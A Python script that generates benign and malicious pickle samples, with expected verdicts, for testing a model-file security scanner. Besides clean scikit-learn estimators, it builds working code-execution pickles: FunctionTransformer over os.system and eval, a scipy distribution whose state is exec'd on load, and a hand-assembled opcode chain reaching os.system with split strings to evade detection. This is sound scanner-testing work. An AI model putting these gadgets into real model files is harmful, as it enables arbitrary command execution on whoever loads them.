#!/usr/bin/python3
"""Writes samples/real-estimators/: what scikit-learn 1.2 / joblib write for benign estimators whose
pickles reference library functions rather than classes (numpy ufuncs in FunctionTransformer and
TransformedTargetRegressor, np.mean as FeatureAgglomeration's pooling function, univariate score
functions in SelectKBest/SelectPercentile, k-means kernels in BisectingKMeans) or a scipy class
(BSpline in SplineTransformer). Each once scanned `suspicious`; all must be clean. Made from a
corpus of every sklearn.utils.all_estimators() estimator, fitted and saved with pickle protocols
2/4/5 and joblib (plain and compress=3).

Next to them, what must not be clean:

- ft-os-system.pkl: FunctionTransformer(func=os.system); sklearn calls func(X) at transform time.
- ft-eval.joblib: FunctionTransformer(func=builtins.eval).
- ft-user-function.pkl: FunctionTransformer(func=<a function of __main__>): unpickling imports it.
- scipy-norm-gen-exec.pkl: scipy.stats' norm_gen with a crafted `_parse_arg_template`:
  rv_generic.__setstate__ exec()s that string (`_attach_argparser_methods`), so unpickling runs
  `touch /tmp/modelgate-real-estimators-pwned`. Frozen distributions (RandomizedSearchCV's
  param_distributions) pickle these generators: they are denied as code execution.
- method-shadow.pkl: an instance whose BUILD state puts sklearn's `_cached_call` (getattr + call)
  under a method name, then `getattr(instance, method)(...)` chains __globals__ → __builtins__ →
  __import__ → os.system. Allowlisting a bound method by its `Class().method` name would make it
  clean (the engine does not look at the instance's state), so bound methods stay unlisted.

Run from the repository root: /usr/bin/python3 samples/generate/real_estimators.py
"""

import json
import os
import pickle
import sys
import warnings

import joblib
import numpy as np
import scipy.stats
from sklearn.cluster import BisectingKMeans, FeatureAgglomeration
from sklearn.compose import ColumnTransformer, TransformedTargetRegressor
from sklearn.datasets import make_classification, make_regression
from sklearn.feature_selection import SelectKBest, SelectPercentile, chi2, mutual_info_regression
from sklearn.linear_model import LogisticRegression, Ridge
from sklearn.pipeline import make_pipeline
from sklearn.preprocessing import FunctionTransformer, SplineTransformer, StandardScaler

warnings.filterwarnings("ignore")
OUT = "samples/real-estimators"
AREA = "real-estimators"


def user_transform(x):
    """A user function: pickled by reference as __main__.user_transform."""
    return x


def write_pickle(name, obj, protocol=4):
    with open(os.path.join(OUT, name), "wb") as f:
        pickle.dump(obj, f, protocol=protocol)


def shadow_pickle(command):
    """getattr(inst, "_annealing_cos") where inst.__dict__["_annealing_cos"] is _cached_call."""
    P = pickle

    def s(x):
        b = x.encode()
        return P.BINUNICODE + len(b).to_bytes(4, "little") + b

    def g(mod, name):
        return P.GLOBAL + f"{mod}\n{name}\n".encode()

    out = [P.PROTO + b"\x02", g("torch.optim.lr_scheduler", "OneCycleLR"), P.EMPTY_TUPLE, P.NEWOBJ]
    out += [P.EMPTY_DICT, s("_annealing_cos"), g("sklearn.metrics._scorer", "_cached_call"), P.SETITEM]
    out += [P.BUILD, P.BINPUT + b"\x00", P.POP]

    def call(memo_out, *args):
        ops = [g("builtins", "getattr"), P.BINGET + b"\x00", s("_annealing_cos"), P.TUPLE2, P.REDUCE, P.MARK]
        ops += list(args) + [P.TUPLE, P.REDUCE]
        if memo_out is not None:
            ops += [P.BINPUT + bytes([memo_out]), P.POP]
        return ops

    fn = g("sklearn.metrics._classification", "accuracy_score")
    out += call(1, P.NONE, fn, s("__getattribute__"), s("__globals__"))
    out += call(2, P.NONE, P.BINGET + b"\x01", s("get"), s("__builtins__"))
    out += call(3, P.NONE, P.BINGET + b"\x02", s("get"), s("__imp" + "ort__"))
    out += call(4, P.NONE, P.BINGET + b"\x03", s("__call__"), s("o" + "s"))
    out += call(None, P.NONE, P.BINGET + b"\x04", s("sys" + "tem"), s(command))
    out += [P.STOP]
    return b"".join(out)


def main():
    os.makedirs(OUT, exist_ok=True)
    Xc, yc = make_classification(n_samples=30, n_features=4, n_informative=2, n_classes=2, random_state=0)
    Xr, yr = make_regression(n_samples=30, n_features=4, random_state=0)
    Xp = np.abs(Xc)
    expected = {}

    def clean(name):
        expected[f"{AREA}/{name}"] = {"verdict": "clean"}

    pipe = make_pipeline(FunctionTransformer(np.log1p, inverse_func=np.expm1), StandardScaler(), LogisticRegression())
    pipe.fit(Xp, yc)
    write_pickle("ft-log1p-pipeline.pkl", pipe, 4)
    clean("ft-log1p-pipeline.pkl")
    joblib.dump(pipe, os.path.join(OUT, "ft-log1p-pipeline.joblib"), compress=3)
    clean("ft-log1p-pipeline.joblib")

    ft = make_pipeline(FunctionTransformer(np.abs), FunctionTransformer(np.sqrt)).fit(Xc)
    write_pickle("ft-abs-sqrt.pkl", ft, 5)
    clean("ft-abs-sqrt.pkl")

    ct = ColumnTransformer([("s", StandardScaler(), [0, 1]), ("f", FunctionTransformer(np.log1p), [2])]).fit(Xp)
    write_pickle("column-transformer-log1p.pkl", ct, 2)
    clean("column-transformer-log1p.pkl")

    ttr = TransformedTargetRegressor(regressor=Ridge(), func=np.log1p, inverse_func=np.expm1).fit(Xr, np.abs(yr))
    joblib.dump(ttr, os.path.join(OUT, "ttr-log1p.joblib"))
    clean("ttr-log1p.joblib")

    write_pickle("select-kbest-f-classif.pkl", SelectKBest(k=2).fit(Xc, yc), 4)
    clean("select-kbest-f-classif.pkl")
    joblib.dump(SelectKBest(chi2, k=2).fit(Xp, yc), os.path.join(OUT, "select-kbest-chi2.joblib"))
    clean("select-kbest-chi2.joblib")
    write_pickle("select-percentile-mi.pkl", SelectPercentile(mutual_info_regression).fit(Xr, yr), 5)
    clean("select-percentile-mi.pkl")

    write_pickle("feature-agglomeration.pkl", FeatureAgglomeration(n_clusters=2).fit(Xc), 4)
    clean("feature-agglomeration.pkl")
    joblib.dump(BisectingKMeans(n_clusters=2, random_state=0).fit(Xc), os.path.join(OUT, "bisecting-kmeans.joblib"))
    clean("bisecting-kmeans.joblib")
    write_pickle("spline-transformer.pkl", SplineTransformer(n_knots=3).fit(Xc), 4)
    clean("spline-transformer.pkl")

    write_pickle("ft-os-system.pkl", FunctionTransformer(func=os.system), 4)
    expected[f"{AREA}/ft-os-system.pkl"] = {"verdict": "malicious", "rules": ["pickle/dangerous-global"]}
    joblib.dump(FunctionTransformer(func=eval), os.path.join(OUT, "ft-eval.joblib"))
    expected[f"{AREA}/ft-eval.joblib"] = {"verdict": "malicious", "rules": ["pickle/dangerous-global"]}
    write_pickle("ft-user-function.pkl", FunctionTransformer(func=user_transform), 4)
    expected[f"{AREA}/ft-user-function.pkl"] = {"verdict": "suspicious", "rules": ["pickle/unknown-global"]}

    gen = scipy.stats.norm
    state = dict(type(gen).__getstate__(gen))
    state.pop("__doc__", None)
    state["_parse_arg_template"] = (
        "import os\nos.system('touch /tmp/modelgate-real-estimators-pwned')\n"
        "def _parse_args(self, *a, **k): pass\n"
        "def _parse_args_stats(self, *a, **k): pass\n"
        "def _parse_args_rvs(self, *a, **k): pass\n"
    )
    cls = type(gen)
    original = cls.__getstate__
    cls.__getstate__ = lambda self: state
    try:
        write_pickle("scipy-norm-gen-exec.pkl", gen, 4)
    finally:
        cls.__getstate__ = original
    expected[f"{AREA}/scipy-norm-gen-exec.pkl"] = {"verdict": "malicious", "rules": ["pickle/dangerous-global"]}

    with open(os.path.join(OUT, "method-shadow.pkl"), "wb") as f:
        f.write(shadow_pickle("touch /tmp/modelgate-real-estimators-pwned"))
    expected[f"{AREA}/method-shadow.pkl"] = {"verdict": "malicious", "rules": ["pickle/dangerous-global"]}

    with open(os.path.join(OUT, "expected.json"), "w") as f:
        json.dump(expected, f, indent=1)
        f.write("\n")
    print(f"wrote {len(expected)} samples to {OUT}", file=sys.stderr)


if __name__ == "__main__":
    main()
